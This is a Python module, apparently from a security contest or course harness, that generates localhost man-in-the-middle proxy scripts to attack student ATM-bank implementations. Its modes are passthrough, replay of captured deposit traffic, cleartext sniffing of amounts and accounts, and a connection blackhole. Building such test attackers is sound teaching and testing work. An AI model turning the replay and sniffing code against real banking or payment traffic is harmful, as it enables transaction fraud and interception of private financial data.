"""MITM program generation.

A breaker's MITM is a standalone executable taking three arguments: the
port to listen on, the bank's port, and the command server's port.  The
instances written here share one template with three behaviours:

  passthrough  forward traffic untouched (the starter proxy)
  replay       capture the client bytes of the last command's connection
               and re-send them straight to the bank
  sniff        watch the traffic for an amount in the clear and guess it
  blackhole    accept connections and forward nothing (hangs the client;
               exercises the conservative disallow rule)

The command list is embedded into each instance, so every generated file is
a self-contained break payload.
"""

from __future__ import annotations

import json
from pathlib import Path

TEMPLATE = '''#!/usr/bin/env python3
"""Generated MITM: {mode} behaviour."""
import json
import re
import socket
import sys
import threading

MODE = {mode!r}
REQUESTS = {requests}

captured = []          # per-connection client->bank byte strings
captured_lock = threading.Lock()
sniffed = {{"amount": None, "account": None}}


def watch(data):
    if MODE != "sniff":
        return
    match = re.search(rb'"amount"\\s*:\\s*"([^"]+)"', data)
    if match and sniffed["amount"] is None:
        sniffed["amount"] = match.group(1).decode()
    match = re.search(rb'"account"\\s*:\\s*"([^"]+)"', data)
    if match and sniffed["account"] is None:
        sniffed["account"] = match.group(1).decode()


def pipe(src, dst, tap=None):
    try:
        while True:
            data = src.recv(65536)
            if not data:
                break
            if tap is not None:
                tap(data)
            dst.sendall(data)
    except OSError:
        pass
    finally:
        for sock in (src, dst):
            try:
                sock.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass


def proxy_loop(listen_port, bank_port):
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.0.0.1", listen_port))
    listener.listen(16)
    while True:
        client, _ = listener.accept()
        if MODE == "blackhole":
            continue  # hold the socket open, forward nothing
        upstream = socket.create_connection(("127.0.0.1", bank_port))
        record = bytearray()
        with captured_lock:
            captured.append(record)

        def tap(data, record=record):
            record.extend(data)
            watch(data)

        threading.Thread(target=pipe, args=(client, upstream, tap), daemon=True).start()
        threading.Thread(target=pipe, args=(upstream, client, watch), daemon=True).start()


def drive(command_port, bank_port):
    with socket.create_connection(("127.0.0.1", command_port)) as conn:
        stream = conn.makefile("rwb")

        def call(request):
            stream.write((json.dumps(request) + "\\n").encode())
            stream.flush()
            return json.loads(stream.readline())

        for request in REQUESTS:
            call(request)
        if MODE == "replay":
            with captured_lock:
                blobs = [bytes(r) for r in captured if r]
            if blobs:
                try:
                    with socket.create_connection(("127.0.0.1", bank_port)) as again:
                        again.sendall(blobs[-1])
                        again.settimeout(2.0)
                        try:
                            again.recv(65536)
                        except OSError:
                            pass
                except OSError:
                    pass
        if MODE == "sniff":
            guess = sniffed["amount"]
            if guess is not None:
                call({{"guess": {{"amount": guess}}}})
        call({{"done": True}})


def main():
    listen_port, bank_port, command_port = (int(a) for a in sys.argv[1:4])
    threading.Thread(
        target=proxy_loop, args=(listen_port, bank_port), daemon=True
    ).start()
    drive(command_port, bank_port)


if __name__ == "__main__":
    main()
'''


def write_mitm(dest: Path, mode: str, requests: list[dict]) -> Path:
    """Materialize one MITM executable with its command list baked in."""
    if mode not in ("passthrough", "replay", "sniff", "blackhole"):
        raise ValueError(f"unknown mitm mode {mode!r}")
    body = TEMPLATE.format(mode=mode, requests=json.dumps(requests, indent=1))
    dest.write_text(body)
    dest.chmod(0o755)
    return dest


REPLAY_DEPOSIT_REQUESTS = [
    {"command": ["-a", "acct1", "-n", "500.00"]},
    {"command": ["-a", "acct1", "-d", "77.00"]},
]

SNIFF_SECRET_REQUESTS = [
    {"command": ["-a", "%ACCOUNT%", "-n", "%AMOUNT%"]},
]

PASSTHROUGH_REQUESTS = [
    {"command": ["-a", "benign", "-n", "120.00"]},
    {"command": ["-a", "benign", "-d", "5.00"]},
    {"command": ["-a", "benign", "-g"]},
]
